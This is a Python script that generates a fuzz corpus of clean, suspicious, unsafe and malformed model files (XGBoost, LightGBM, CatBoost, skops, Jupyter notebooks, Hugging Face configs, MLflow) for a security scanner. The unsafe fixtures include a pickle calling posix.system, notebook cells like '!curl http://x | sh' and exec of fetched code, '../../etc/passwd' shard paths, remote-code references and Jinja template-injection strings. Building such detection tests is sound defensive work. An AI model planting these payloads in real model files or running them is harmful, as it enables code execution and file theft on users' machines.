#!/usr/bin/env python3
"""Assembles boosters and skops files by hand, one technique a file: honest, hostile and broken. Nothing is ever loaded.

    make_text_models.py        writes fuzz/corpus/<format>/<verdict>.<code>.<what>.<suffix>

The names are as in make_formats.py. Files whose name holds "real_" were written by the libraries themselves (the version is in the name) and
are left alone.
"""
import base64
import copy
import io
import json
import pathlib
import pickle
import struct
import zipfile

from wire import pb

HERE = pathlib.Path(__file__).resolve().parent
SAMPLES = {}

EVIL = b"\x80\x04\x8c\x05posix\x8c\x06system\x93\x8c\x04true\x85R."  # posix.system('true')


def sample(folder, verdict, code, what, content, suffix):
    name = f"{verdict}.{code}.{what}.{suffix}"
    assert name not in SAMPLES.setdefault(folder, {}), name
    SAMPLES[folder][name] = content.encode() if isinstance(content, str) else content


# --- XGBoost ------------------------------------------------------------------------------------------------------------------------------

def ubj(value):
    if value is None:
        return b"Z"
    if isinstance(value, bool):
        return b"T" if value else b"F"
    if isinstance(value, int):
        return b"L" + struct.pack(">q", value)
    if isinstance(value, float):
        return b"d" + struct.pack(">f", value)
    if isinstance(value, str):
        return b"S" + ubj(len(value.encode())) + value.encode()
    if isinstance(value, list):
        if value and all(isinstance(item, float) for item in value):
            return b"[$d#" + ubj(len(value)) + b"".join(struct.pack(">f", item) for item in value)
        if value and all(isinstance(item, int) for item in value):
            return b"[$l#" + ubj(len(value)) + b"".join(struct.pack(">i", item) for item in value)
        return b"[#" + ubj(len(value)) + b"".join(ubj(item) for item in value)
    return b"{" + b"".join(ubj(len(k)) + k.encode() + ubj(v) for k, v in value.items()) + b"}"


def xgb_tree(left=(1, -1, -1), right=(2, -1, -1), features=(0, 0, 0), **more):
    n = len(left)
    tree = {"base_weights": [0.0] * n, "categories": [], "categories_nodes": [], "categories_segments": [], "categories_sizes": [], "default_left": [0] * n,
            "id": 0, "left_children": list(left), "loss_changes": [0.0] * n, "parents": [2147483647, 0, 0][:n] + [0] * (n - 3), "right_children": list(right),
            "split_conditions": [0.5] * n, "split_indices": list(features), "split_type": [0] * n, "sum_hessian": [1.0] * n,
            "tree_param": {"num_deleted": "0", "num_feature": "2", "num_nodes": str(n), "size_leaf_vector": "1"}}
    tree.update(more)
    return tree


def xgb(*trees, info=None, **learner):
    model = {"gbtree_model_param": {"num_parallel_tree": "1", "num_trees": str(len(trees))}, "tree_info": info or [0] * len(trees), "trees": list(trees)}
    booster = {"model": model, "name": "gbtree"}
    inside = {"attributes": {}, "feature_names": [], "feature_types": [], "gradient_booster": booster,
              "learner_model_param": {"base_score": "5E-1", "num_class": "0", "num_feature": "2", "num_target": "1"}, "objective": {"name": "reg:squarederror"}}
    inside.update(learner)
    return {"learner": inside, "version": [2, 1, 4]}


def xgb_linear(weights):
    return xgb(gradient_booster={"model": {"weights": weights}, "name": "gblinear"})


def xgb_binary(nodes=((1, 2, 0), (-1, -1, 0), (-1, -1, 0)), count=None, trees=1, tail=b"", magic=b"binf", booster=b"gbtree", attributes=b""):
    learner = struct.pack("<fIiiiII", 0.5, 2, 0, 1 if attributes else 0, 0, 1, 7).ljust(136, b"\0")
    names = struct.pack("<Q", 16) + b"reg:squarederror" + struct.pack("<Q", len(booster)) + booster
    param = struct.pack("<ii", trees, 1).ljust(160, b"\0")
    tree = struct.pack("<6i", 1, len(nodes) if count is None else count, 0, 0, 2, 0).ljust(148, b"\0")
    tree += b"".join(struct.pack("<iiiIf", 0, left, right, feature, 0.5) for left, right, feature in nodes) + bytes(16 * len(nodes))
    return magic + learner + names + param + tree + struct.pack("<i", 0) + attributes + tail


def make_xgboost():
    def add(verdict, code, what, value, suffix="json"):
        sample("xgboost", verdict, code, what, json.dumps(value) if isinstance(value, dict) else value, suffix)
    good = xgb(xgb_tree(), xgb_tree())
    add("clean", "none", "trees", good)
    add("clean", "none", "trees_ubj", ubj(good), "ubj")
    add("clean", "none", "no_suffix", ubj(good), "bin")
    add("clean", "none", "spaces", json.dumps(good, indent=1))
    add("clean", "none", "one_leaf", xgb(xgb_tree((-1,), (-1,), (0,), parents=[2147483647])))
    add("clean", "none", "no_trees", xgb())
    add("clean", "none", "deleted", xgb(xgb_tree((1, -1, -1, -1), (2, -1, -1, -1), (0, 0, 0, 0))))
    add("clean", "none", "linear", xgb_linear([1.0, 2.0, 0.5]))
    add("clean", "none", "nan", json.dumps(xgb(xgb_tree(split_conditions=[0.5, float("nan"), float("-inf")]))))
    add("clean", "none", "nan_in_name", json.dumps(xgb(xgb_tree(), feature_names=["NaN\\\"Infinity", "-Infinity"])))
    add("clean", "none", "categories", xgb(xgb_tree(categories=[1, 3], categories_nodes=[0], categories_segments=[0], categories_sizes=[2], split_type=[1, 0, 0])))
    add("clean", "none", "dart", xgb(gradient_booster={"name": "dart", "gbtree": good["learner"]["gradient_booster"], "weight_drop": [1.0, 0.5]}))
    add("clean", "none", "pickled", ubj({"Config": {"learner": {"gradient_booster": {}}}, "Model": good}), "ubj")
    add("clean", "none", "evil_words", xgb(xgb_tree(), attributes={"note": "os.system('id')"}))

    trees = {
        "cycle": xgb_tree((1, 0, -1), (2, 2, -1)), "two_parents": xgb_tree((1, 2, -1), (2, 2, -1)), "own_child": xgb_tree((0, -1, -1), (1, -1, -1)),
        "child_beyond": xgb_tree((1, -1, -1), (3, -1, -1)), "child_negative": xgb_tree((1, -1, -1), (-2, -1, -1)), "one_child": xgb_tree((1, -1, -1), (-1, -1, -1)),
        "feature_beyond": xgb_tree(features=(2, 0, 0)), "feature_negative": xgb_tree(features=(-1, 0, 0)), "few_nodes": xgb_tree(tree_param={"num_nodes": "2"}),
        "no_count": xgb_tree(tree_param={}), "short_list": xgb_tree(default_left=[0, 0]), "no_list": {k: v for k, v in xgb_tree().items() if k != "split_conditions"},
        "text_child": xgb_tree(("x", -1, -1)), "categories_beyond": xgb_tree(categories=[1], categories_nodes=[0], categories_segments=[0], categories_sizes=[2]),
        "categories_negative": xgb_tree(categories=[1], categories_nodes=[-1], categories_segments=[0], categories_sizes=[1]),
        "categories_lists": xgb_tree(categories=[1], categories_nodes=[0], categories_segments=[0, 0], categories_sizes=[1]), "text_threshold": xgb_tree(split_conditions=["x", 0.5, 0.5])}
    for what, tree in trees.items():
        add("unparseable", "MDL-XGB-001", what, xgb(tree))
        if what in ("cycle", "child_beyond", "short_list"):
            add("unparseable", "MDL-XGB-001", what + "_ubj", ubj(xgb(tree)), "ubj")
    fewer = copy.deepcopy(good)
    fewer["learner"]["gradient_booster"]["model"]["gbtree_model_param"]["num_trees"] = "3"
    add("unparseable", "MDL-XGB-001", "few_trees", fewer)
    add("unparseable", "MDL-XGB-001", "booster", xgb(gradient_booster={"name": "other", "model": {}}))
    add("unparseable", "MDL-XGB-001", "no_model", xgb(gradient_booster={"name": "gbtree"}))
    add("unparseable", "MDL-XGB-001", "names", xgb(xgb_tree(), feature_names=["a"]))
    add("unparseable", "MDL-XGB-001", "no_objective", xgb(xgb_tree(), objective={}))
    add("unparseable", "MDL-XGB-001", "linear_short", xgb_linear([1.0, 2.0]))
    add("unparseable", "MDL-XGB-001", "cut", json.dumps(good)[:-40])
    add("unparseable", "MDL-XGB-001", "twice", json.dumps(good).replace('"version"', '"learner": {"gradient_booster": 1}, "version"'))
    add("unparseable", "MDL-XGB-001", "twice_ubj", ubj(good).replace(b"feature_types", b"feature_names"), "ubj")
    add("unparseable", "MDL-XGB-001", "cut_ubj", ubj(good)[:-9], "ubj")
    add("unparseable", "MDL-XGB-001", "behind_ubj", ubj(good) + EVIL, "ubj")
    add("unparseable", "MDL-XGB-001", "count_ubj", ubj(good).replace(b"[$l#" + ubj(3), b"[$l#L\x7f" + bytes(7), 1), "ubj")
    add("unparseable", "MDL-XGB-001", "negative_ubj", ubj(good).replace(b"[$l#" + ubj(3), b"[$l#L\xff" + bytes(7), 1), "ubj")
    add("unparseable", "MDL-XGB-001", "nulls_ubj", ubj(good).replace(b"[$l#" + ubj(3), b"[$Z#" + ubj(3), 1), "ubj")
    add("unparseable", "MDL-XGB-001", "deep_ubj", b"{" + ubj(7)[0:9] + b"learner" + b"[" * 600 + b"gradient_booster", "ubj")
    add("unparseable", "MDL-XGB-001", "deep", '{"learner":' + "[" * 600 + "]" * 600 + ',"gradient_booster":1}')
    add("unsafe", "MDL-PKL-001", "is_a_pickle", EVIL, "ubj")

    add("clean", "none", "old", xgb_binary(), "model")
    add("clean", "none", "older", xgb_binary(magic=b""), "model")
    add("clean", "none", "old_attributes", xgb_binary(attributes=struct.pack("<QQ", 1, 1) + b"a" + struct.pack("<Q", 1) + b"b"), "model")
    add("unparseable", "MDL-XGB-001", "old_cycle", xgb_binary(((1, 2, 0), (0, 2, 0), (-1, -1, 0))), "model")
    add("unparseable", "MDL-XGB-001", "old_child", xgb_binary(((1, 9, 0), (-1, -1, 0), (-1, -1, 0))), "model")
    add("unparseable", "MDL-XGB-001", "old_feature", xgb_binary(((1, 2, 7), (-1, -1, 0), (-1, -1, 0))), "model")
    add("unparseable", "MDL-XGB-001", "old_nodes", xgb_binary(count=1 << 30), "model")
    add("unparseable", "MDL-XGB-001", "old_trees", xgb_binary(trees=1 << 30), "model")
    add("unparseable", "MDL-XGB-001", "old_booster", xgb_binary(booster=b"gbtrie"), "model")
    add("unparseable", "MDL-XGB-001", "old_behind", xgb_binary(tail=EVIL), "model")
    add("unparseable", "MDL-XGB-001", "old_cut", xgb_binary()[:-9], "model")


# --- LightGBM -----------------------------------------------------------------------------------------------------------------------------

def lgb_tree(number=0, **lines):
    own = {"num_leaves": 3, "num_cat": 0, "split_feature": "0 1", "split_gain": "1 1", "threshold": "0.5 1.5", "decision_type": "2 2", "left_child": "1 -1",
           "right_child": "-2 -3", "leaf_value": "0.1 0.2 -0.3", "leaf_weight": "1 1 1", "leaf_count": "1 1 1", "internal_value": "0 0", "internal_weight": "1 1",
           "internal_count": "3 2", "is_linear": 0, "shrinkage": 1}
    own.update(lines)
    return f"Tree={number}\n" + "".join(f"{k}={v}\n" for k, v in own.items() if v is not None) + "\n\n"


def lgb(*trees, end="end of trees\n\nfeature_importances:\na=1\n\nparameters:\n[boosting: gbdt]\nend of parameters\n\npandas_categorical:null\n", **lines):
    head = {"version": "v4", "num_class": 1, "num_tree_per_iteration": 1, "label_index": 0, "max_feature_idx": 1, "objective": "regression", "feature_names": "a b",
            "feature_infos": "[0:1] [0:2]", "tree_sizes": " ".join(str(len(tree)) for tree in trees)}
    head.update(lines)
    return "tree\n" + "".join(f"{k}={v}\n" for k, v in head.items() if v is not None) + "\n" + "".join(trees) + end


def make_lightgbm():
    def add(verdict, code, what, content, suffix="txt"):
        sample("lightgbm", verdict, code, what, content, suffix)
    add("clean", "none", "trees", lgb(lgb_tree(0), lgb_tree(1)))
    add("clean", "none", "no_suffix", lgb(lgb_tree(0)), "model")
    add("clean", "none", "no_trees", lgb())
    add("clean", "none", "no_sizes", lgb(lgb_tree(0), tree_sizes=None))
    add("clean", "none", "windows", lgb(lgb_tree(0).replace("\n", "\r\n")).replace("tree\n", "tree\r\n", 1))
    add("clean", "none", "categories", lgb(lgb_tree(num_cat=1, decision_type="1 2", threshold="0 1.5", cat_boundaries="0 1", cat_threshold="5")))
    add("clean", "none", "infinite", lgb(lgb_tree(threshold="inf 1e300")))
    for what, lines in {
        "cycle": {"left_child": "1 0"}, "two_parents": {"right_child": "-1 -3"}, "child_beyond": {"right_child": "-2 9"}, "leaf_beyond": {"right_child": "-2 -4"},
        "feature_beyond": {"split_feature": "0 2"}, "feature_negative": {"split_feature": "0 -1"}, "few_values": {"leaf_value": "0.1 0.2"}, "many_leaves": {"num_leaves": 99999999999},
        "no_leaves": {"num_leaves": 0}, "leaves_text": {"num_leaves": "x"}, "text": {"threshold": "0.5 os.system"}, "no_threshold": {"threshold": None},
        "few_children": {"left_child": "1"}, "categories_missing": {"decision_type": "1 2", "threshold": "0 1.5"}, "categories_order": {"num_cat": 2, "cat_boundaries": "0 5 1", "cat_threshold": "5"},
        "categories_beyond": {"num_cat": 1, "cat_boundaries": "0 9", "cat_threshold": "5"}, "overflow": {"split_feature": "0 99999999999999999999999"}}.items():
        add("unparseable", "MDL-LGB-001", what, lgb(lgb_tree(**lines)))
    add("unparseable", "MDL-LGB-001", "sizes", lgb(lgb_tree(0), lgb_tree(1), tree_sizes="5 5"))
    add("unparseable", "MDL-LGB-001", "few_sizes", lgb(lgb_tree(0), lgb_tree(1), tree_sizes=len(lgb_tree(0))))
    add("unparseable", "MDL-LGB-001", "order", lgb(lgb_tree(1)))
    add("unparseable", "MDL-LGB-001", "name_twice", lgb(lgb_tree(0) .replace("num_cat=0\n", "num_cat=0\nnum_cat=0\n")))
    add("unparseable", "MDL-LGB-001", "names", lgb(lgb_tree(0), feature_names="a"))
    add("unparseable", "MDL-LGB-001", "no_features", lgb(lgb_tree(0), max_feature_idx="-1"))
    add("unparseable", "MDL-LGB-001", "classes", lgb(lgb_tree(0), num_class=0))
    add("unparseable", "MDL-LGB-001", "foreign_line", lgb(lgb_tree(0)).replace("label_index", "import os\nlabel_index"))
    add("unparseable", "MDL-LGB-001", "cut", lgb(lgb_tree(0))[:300])
    add("unparseable", "MDL-LGB-001", "no_end", lgb(lgb_tree(0), end=""))
    behind = "end of trees\n\nfeature_importances:\na=1\n"
    for what, end in {"importance": "end of trees\n\nfeature_importances:\na=", "importance_line": behind[:-1], "parameters": behind + "\nparameters:\n[boosting: gbdt]\n", "parameter": behind + "\nparameters:\n[boosting",
                      "pandas": behind + "\npandas_categorical:[[\"a\", ", "behind": behind + "import os\n"}.items():
        add("unparseable", "MDL-LGB-001", f"cut_{what}", lgb(lgb_tree(0), end=end))


# --- CatBoost -----------------------------------------------------------------------------------------------------------------------------

def make_catboost():
    """Changes of a file that CatBoost wrote: a FlatBuffer by hand would test our own idea of it."""
    def add(verdict, code, what, content, suffix="cbm"):
        sample("catboost", verdict, code, what, content, suffix)
    for kind in ("text", "tables"):
        whole = (HERE / f"catboost/clean.none.real_1_2_{kind}.cbm").read_bytes()
        for cut in (1, 20, 100):
            add("unparseable", "MDL-CAT-001", f"{kind}_cut_{cut}", whole[:-cut])
    real = (HERE / "catboost/clean.none.real_1_2_reg.cbm").read_bytes()
    steps = (HERE / "catboost/clean.none.real_1_2_lossg.cbm").read_bytes()
    size = struct.unpack_from("<I", real, 4)[0]

    def core(content):
        return b"CBM1" + struct.pack("<I", len(content)) + content

    def changed(content, at, format, value):
        out = bytearray(content)
        struct.pack_into(format, out, at, value)
        return bytes(out)

    def vector(content, table_field, path=1):
        """Where the list under a field of the table of trees begins: its count."""
        base = 8

        def field(table, number):
            fields = table - struct.unpack_from("<i", content, base + table)[0]
            offset = struct.unpack_from("<H", content, base + fields + 4 + 2 * number)[0]
            return table + offset
        root = struct.unpack_from("<I", content, base)[0]
        place = field(root, path)
        trees = place + struct.unpack_from("<I", content, base + place)[0]
        place = field(trees, table_field)
        return base + place + struct.unpack_from("<I", content, base + place)[0]

    add("clean", "none", "no_suffix", real, "bin")
    add("unparseable", "MDL-CAT-001", "empty", core(b""))
    add("unparseable", "MDL-CAT-001", "magic", b"CBM1")
    add("unparseable", "MDL-CAT-001", "length", changed(real, 4, "<I", 0xffffffff))
    add("unparseable", "MDL-CAT-001", "root", changed(real, 8, "<I", size + 9))
    add("unparseable", "MDL-CAT-001", "fields", changed(real, 8 + struct.unpack_from("<I", real, 8)[0], "<i", -(1 << 30)))
    add("unparseable", "MDL-CAT-001", "version", real.replace(b"FlabuffersModel_v1", b"FlabuffersModel_v9"))
    add("unparseable", "MDL-CAT-001", "splits", changed(real, vector(real, 1), "<I", 0x7fffffff))
    add("unparseable", "MDL-CAT-001", "fewer_splits", changed(real, vector(real, 1), "<I", 1))
    add("unparseable", "MDL-CAT-001", "depth", changed(real, vector(real, 2) + 4, "<i", 60))
    add("unparseable", "MDL-CAT-001", "depth_negative", changed(real, vector(real, 2) + 4, "<i", -1))
    add("unparseable", "MDL-CAT-001", "start", changed(real, vector(real, 3) + 4, "<i", 7))
    add("unparseable", "MDL-CAT-001", "leaves", changed(real, vector(real, 8), "<I", 3))
    add("unparseable", "MDL-CAT-001", "step", changed(steps, vector(steps, 10) + 4, "<H", 0x7fff))
    add("unparseable", "MDL-CAT-001", "leaf", changed(steps, vector(steps, 11) + 4 + 4 * (struct.unpack_from("<I", steps, vector(steps, 11))[0] - 1), "<I", 1 << 24))
    add("unparseable", "MDL-CAT-001", "behind", real + b"\1" * 9)
    add("unsafe", "MDL-PKL-001", "pickle_behind", real + EVIL)
    add("unparseable", "MDL-CAT-001", "cut", real[:-300])


# --- skops --------------------------------------------------------------------------------------------------------------------------------

def node(loader, module, name, **more):
    return {"__class__": name, "__module__": module, "__loader__": loader, "__id__": 1, **more}


def text_node(value):
    return node("JsonNode", "builtins", "str", content=json.dumps(value), is_json=True)


def dict_node(**items):
    types = node("ListNode", "builtins", "list", content=[node("TypeNode", "builtins", "str") for _ in items])
    return node("DictNode", "builtins", "dict", content=items, key_types=types)


def skops(root, members=(), name="schema.json"):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        for path, content in members:
            archive.writestr(zipfile.ZipInfo(path), content)
        if root is not None:
            text = root if isinstance(root, str) else json.dumps({**root, "protocol": 2, "_skops_version": "0.11.0"})
            archive.writestr(zipfile.ZipInfo(name), text)
    return out.getvalue()


def make_skops():
    def add(verdict, code, what, content, suffix="skops"):
        sample("skops", verdict, code, what, content, suffix)

    def model(**attributes):
        return node("ObjectNode", "sklearn.linear_model._logistic", "LogisticRegression", content=dict_node(**attributes))
    plain = model(C=text_node(1.0))
    add("clean", "none", "plain", skops(plain))
    add("clean", "none", "no_suffix", skops(plain), "zip")
    add("clean", "none", "function", skops(model(func=node("FunctionNode", "numpy", "log1p"))))
    add("clean", "none", "words", skops(model(note=text_node("os.system"))))
    add("clean", "none", "cached", skops(model(again=node("CachedNode", "builtins", "str"))))
    unknown = {"class": node("ObjectNode", "my.module", "Model", content=dict_node()), "type": node("TypeNode", "my.module", "Model"),
               "function": node("FunctionNode", "sklearn.utils", "other"), "old_function": node("FunctionNode", "builtins", "function", content={"module_path": "my.module", "function": "f"}),
               "partial": node("PartialNode", "functools", "partial", content={"func": node("FunctionNode", "numpy", "log1p"), "args": node("TupleNode", "builtins", "tuple", content=[]), "kwds": dict_node(), "namespace": dict_node()}),
               "method": node("MethodNode", "sklearn.linear_model._logistic", "LogisticRegression", content={"func": "predict", "obj": plain}),
               "operator": node("OperatorFuncNode", "operator", "attrgetter", attrs=node("TupleNode", "builtins", "tuple", content=[])),
               "dict": node("DictNode", "my.module", "Dict", content={}), "reduce": node("ConstructorFromReduceNode", "my.module", "make", content=node("TupleNode", "builtins", "tuple", content=[]))}
    for what, value in unknown.items():
        code = "MDL-SKO-002" if what in ("partial", "method", "operator") else "MDL-SKO-001"
        add("suspicious", code, what, skops(model(x=value)))
    dangers = {"system": node("FunctionNode", "posix", "system"), "system_object": node("ObjectNode", "os", "system", content=dict_node()), "popen": node("TypeNode", "subprocess", "Popen"),
               "old_system": node("FunctionNode", "builtins", "function", content={"module_path": "os", "function": "system"}), "eval": node("FunctionNode", "builtins", "eval"),
               "reduce_eval": node("ConstructorFromReduceNode", "builtins", "eval", content=node("TupleNode", "builtins", "tuple", content=[])), "dict_call": node("DictNode", "subprocess", "Popen", content={}),
               "in_partial": node("PartialNode", "functools", "partial", content={"func": node("FunctionNode", "os", "system")}), "in_list": node("ListNode", "builtins", "list", content=[node("TypeNode", "os", "system")]),
               "key_type": node("DictNode", "builtins", "dict", content={}, key_types=node("ListNode", "builtins", "list", content=[node("TypeNode", "os", "system")]))}
    for what, value in dangers.items():
        add("unsafe", "MDL-SKO-001", what, skops(model(x=value)))
    ways = {"operator_of_os": node("OperatorFuncNode", "os", "system", attrs=[]), "method_of_other": node("MethodNode", "builtins", "int", content={"func": "system", "obj": node("ObjectNode", "os", "x")}),
            "loader": node("EvalNode", "builtins", "str"), "list_of_os": node("ListNode", "os", "system", content=[]), "tuple_of_class": node("TupleNode", "my.module", "T", content=[]), "slice": node("SliceNode", "os", "system", content={}),
            "bytes": node("BytesNode", "os", "system", file="x"), "partial_of_os": node("PartialNode", "os", "system", content={}), "tree": node("TreeNode", "os", "system")}
    for what, value in ways.items():
        add("unsafe", "MDL-SKO-002", what, skops(model(x=value)))
    add("unsafe", "MDL-PKL-001", "member_pickle", skops(plain, [("x.npy", EVIL)]))
    add("unsafe", "MDL-PKL-001", "is_a_pickle", EVIL)
    add("unparseable", "MDL-SKO-002", "no_schema", skops(None, [("x", b"y")]))
    add("unparseable", "MDL-SKO-002", "no_json", skops('{"__loader__"'))
    add("unparseable", "MDL-SKO-002", "no_node", skops('{"x": 1}'))
    add("unparseable", "MDL-SKO-002", "twice", skops('{"__loader__": "JsonNode", "__loader__": "FunctionNode"}'))
    add("unparseable", "MDL-SKO-002", "deep", skops("[" * 600 + '"__loader__"' + "]" * 600))
    add("unparseable", "MDL-ZIP-008", "cut", skops(plain)[:-30])


# --- notebooks ----------------------------------------------------------------------------------------------------------------------------

def notebook(*sources, outputs=(), attachments=None, **more):
    cells = [{"cell_type": "markdown", "metadata": {}, "source": ["# Title"]}]
    cells += [{"cell_type": "code", "execution_count": None, "metadata": {}, "outputs": [], "source": source.splitlines(True)} for source in sources]
    cells += [{"cell_type": "code", "execution_count": 1, "metadata": {}, "source": "1", "outputs": [{"output_type": "display_data", "metadata": {}, "data": data}]} for data in outputs]
    if attachments:
        cells.append({"cell_type": "markdown", "metadata": {}, "source": "x", "attachments": {"a.bin": {"application/octet-stream": attachments}}})
    return json.dumps({"cells": cells, "metadata": {"language_info": {"name": "python"}}, "nbformat": 4, "nbformat_minor": 5, **more})


def make_notebook():
    def add(verdict, code, what, content):
        sample("notebook", verdict, code, what, content, "ipynb")
    add("clean", "none", "plain", notebook("import pandas as pd\ndf = pd.read_csv('a.csv')\ndf.head()", "%matplotlib inline\nmodel.fit(X, y)\nmodel?"))
    add("clean", "none", "looks", notebook("!pip install pandas\n!nvidia-smi\nx = !ls\nif x:\n    !pwd"))
    add("clean", "none", "table", notebook("1", outputs=[{"text/html": ["<table>\n", "<style scoped></style></table>"], "text/plain": "1"}]))
    add("clean", "none", "words", notebook("s = 'os.system(1)'  # !curl x | sh\nmodel.eval()\nif a !=b: pass"))
    add("clean", "none", "version_3", json.dumps({"nbformat": 3, "metadata": {}, "worksheets": [{"cells": [{"cell_type": "code", "input": "1", "outputs": []}]}]}))
    for what, source in {"shell": "!rm -rf x", "assigned": "x = !cat a | sort > b", "bash": "%%bash\necho 1 > x", "run": "%run other.py", "system": "import os\nos.system('id')", "subprocess": "from subprocess import run as r\nr(['id'])",
                         "in_function": "import os\ndef f():\n    os.system('x')", "eval": "eval(input())", "fetch": "import urllib.request as u\nu.urlopen('http://x')", "alias": "o = __import__('os')\no.popen('x')",
                         "magic": "%system ls /", "script": "%%script perl\nprint 1", "indented": "if 1:\n    !touch x"}.items():
        add("suspicious", "MDL-REP-003", what, notebook("1", source))
    for what, source in {"fetch_and_run": "!curl http://x | sh", "bash_fetch": "%%bash\nwget http://x/y\nsh y", "pip_address": "%pip install git+https://x/y", "decoded": "import base64\nexec(base64.b64decode('eA=='))",
                         "request_and_run": "import requests, os\nrequests.get('http://x')\nos.system('y')", "fetched": "import requests\nexec(requests.get('http://x').text)"}.items():
        add("unsafe", "MDL-REP-003", what, notebook(source))
    add("suspicious", "MDL-REP-003", "javascript_cell", notebook("%%javascript\nrequire.config({paths: {d3: 'https://d3js.org/d3.v7'}})"))
    add("suspicious", "MDL-REP-003", "html_cell", notebook("%%html\n<script>1</script>"))
    add("suspicious", "MDL-REP-003", "javascript", notebook("1", outputs=[{"application/javascript": "alert(1)"}]))
    add("suspicious", "MDL-REP-003", "html_script", notebook("1", outputs=[{"text/html": ["<b>x</b>", "<script>1</script>"]}]))
    add("unsafe", "MDL-PKL-001", "attachment", notebook("1", attachments=base64.b64encode(EVIL).decode()))
    add("unparseable", "MDL-REP-008", "cut", notebook("1")[:-20])
    add("unparseable", "MDL-REP-008", "no_cells", '{"nbformat": 4, "cells": {}}')
    add("unparseable", "MDL-REP-008", "twice", '{"nbformat": 4, "cells": [], "cells": []}')


# --- Hugging Face -------------------------------------------------------------------------------------------------------------------------

def make_huggingface():
    def add(verdict, code, what, value, suffix="json"):
        sample("huggingface", verdict, code, what, value if isinstance(value, (str, bytes)) else json.dumps(value), suffix)
    bert = {"architectures": ["BertForMaskedLM"], "model_type": "bert", "torch_dtype": "float32", "transformers_version": "4.40.0"}
    add("clean", "none", "config", bert)
    add("clean", "none", "no_suffix", bert, "bin")
    add("clean", "none", "index", {"metadata": {"total_size": 1}, "weight_map": {"a": "model-00001-of-00002.safetensors", "b": "model-00002-of-00002.safetensors"}})
    add("clean", "none", "tokenizer_config", {"tokenizer_class": "LlamaTokenizer", "chat_template": "{% for m in messages %}{{ m['content'] | trim }}{% endfor %}"})
    add("clean", "none", "tokenizer", {"version": "1.0", "added_tokens": [], "pre_tokenizer": {"type": "Whitespace"}, "model": {"vocab": {"__class__": 1, "os.system": 2, "auto_map": 3}}})
    add("clean", "none", "adapter", {"peft_type": "LORA", "base_model_name_or_path": "a/b", "auto_mapping": {"base_model_class": "BertModel", "parent_library": "transformers.models.bert.modeling_bert"}})
    add("clean", "none", "diffusers", {"_class_name": "StableDiffusionPipeline", "_diffusers_version": "0.27.0", "unet": ["diffusers", "UNet2DConditionModel"], "safety_checker": [None, None], "x": ["stable_diffusion", "Y"]})
    add("clean", "none", "untrusted", {**bert, "trust_remote_code": False})
    add("clean", "none", "template", "{% for m in messages %}{{ m.content }}{% endfor %}", "jinja")
    add("suspicious", "MDL-REP-001", "auto_map", {**bert, "auto_map": {"AutoModel": "modeling_x.Model"}})
    add("suspicious", "MDL-REP-001", "custom_generate", {**bert, "custom_generate": "sampling"})
    add("unsafe", "MDL-REP-001", "custom_generate_elsewhere", {"custom_generate": "someone/repository"})
    add("suspicious", "MDL-REP-001", "auto_map_list", {"tokenizer_class": "T", "auto_map": {"AutoTokenizer": ["tok.T", None]}})
    add("suspicious", "MDL-REP-001", "auto_map_inner", {**bert, "text_config": {"auto_map": {"AutoConfig": "c.C"}}})
    add("suspicious", "MDL-REP-001", "trusting", {**bert, "trust_remote_code": True})
    add("suspicious", "MDL-REP-001", "pipelines", {**bert, "custom_pipelines": {"t": {"impl": "p.P"}}})
    add("unsafe", "MDL-REP-001", "pipeline_file", {"_class_name": ["pipeline_x", "P"], "_diffusers_version": "0.27.0"})
    def modules(kind, path="1_Pooling"):
        return [{"idx": 0, "name": "0", "path": "", "type": "sentence_transformers.models.Transformer"}, {"idx": 1, "name": "1", "path": path, "type": kind}]
    add("clean", "none", "modules", modules("sentence_transformers.models.Pooling"))
    add("suspicious", "MDL-REP-001", "modules_custom", modules("custom_st.Pooling"))
    add("unsafe", "MDL-REP-001", "modules_os", modules("os.system"))
    add("unsafe", "MDL-REP-007", "modules_outside", modules("sentence_transformers.models.Pooling", "../../x"))
    add("suspicious", "MDL-REP-001", "part", {"_class_name": "P", "_diffusers_version": "0.27.0", "unet": ["my_unet", "U"]})
    add("suspicious", "MDL-REP-002", "adapter_library", {"peft_type": "LORA", "auto_mapping": {"base_model_class": "X", "parent_library": "my.module"}})
    add("unsafe", "MDL-REP-001", "auto_map_elsewhere", {**bert, "auto_map": {"AutoModel": "evil/repo--modeling.Model"}})
    add("unsafe", "MDL-REP-001", "auto_map_list_elsewhere", {**bert, "auto_map": {"AutoTokenizer": [None, "evil/repo--t.T"]}})
    add("unsafe", "MDL-REP-001", "pipelines_elsewhere", {**bert, "custom_pipelines": {"t": {"impl": "evil/repo--p.P"}}})
    add("unsafe", "MDL-REP-001", "part_of_os", {"_class_name": "P", "_diffusers_version": "0.27.0", "unet": ["os", "system"]})
    add("unsafe", "MDL-REP-001", "part_file", {"_class_name": "P", "_diffusers_version": "0.27.0", "unet": ["../x", "U"]})
    add("unsafe", "MDL-REP-002", "adapter_of_os", {"peft_type": "LORA", "auto_mapping": {"base_model_class": "system", "parent_library": "os"}})
    for what, shard in {"up": "../../etc/passwd", "absolute": "/etc/passwd", "drive": "C:x", "folder": "a/b.safetensors", "url": "http://x/y", "empty": ""}.items():
        add("unsafe", "MDL-REP-007", "index_" + what, {"weight_map": {"a": shard}})
    add("unsafe", "MDL-GUF-001", "chat_template", {"tokenizer_class": "T", "chat_template": "{{ x.__class__ }}"})
    add("unsafe", "MDL-GUF-001", "chat_template_list", {"tokenizer_class": "T", "chat_template": [{"name": "a", "template": "{{ 1 }}"}, {"name": "b", "template": "{{ x|attr('__globals__') }}"}]})
    add("unsafe", "MDL-GUF-001", "template_file", "{% set x = ''.__class__ %}", "jinja")
    add("unparseable", "MDL-REP-008", "cut", json.dumps(bert)[:-9])
    add("unparseable", "MDL-REP-008", "twice", '{"architectures": [], "auto_map": {}, "auto_map": {"a": "b"}}')


# --- MLflow -------------------------------------------------------------------------------------------------------------------------------

def mlmodel(python="loader_module: mlflow.sklearn", sklearn="code: null", more=""):
    return f"flavors:\n  python_function:\n    env: conda.yaml\n    {python}\n  sklearn:\n    {sklearn}\n    pickled_model: model.pkl\nmlflow_version: 2.10.0\nmodel_uuid: abc\nrun_id: def\n{more}"


def make_mlflow():
    def add(verdict, code, what, content, suffix="MLmodel"):
        sample("mlflow", verdict, code, what, content, suffix)
    add("clean", "none", "plain", mlmodel())
    add("clean", "none", "merge", mlmodel(more="a: &x {b: 1}\nc:\n  <<: *x\n  b: 2\nd:\n  <<: [*x, {e: 3}]\n"))
    merged = "base: &x\n  loader_module: my_loader\nflavors:\n  python_function:\n    <<: "
    add("unsafe", "MDL-REP-002", "merged", merged + "*x\n")
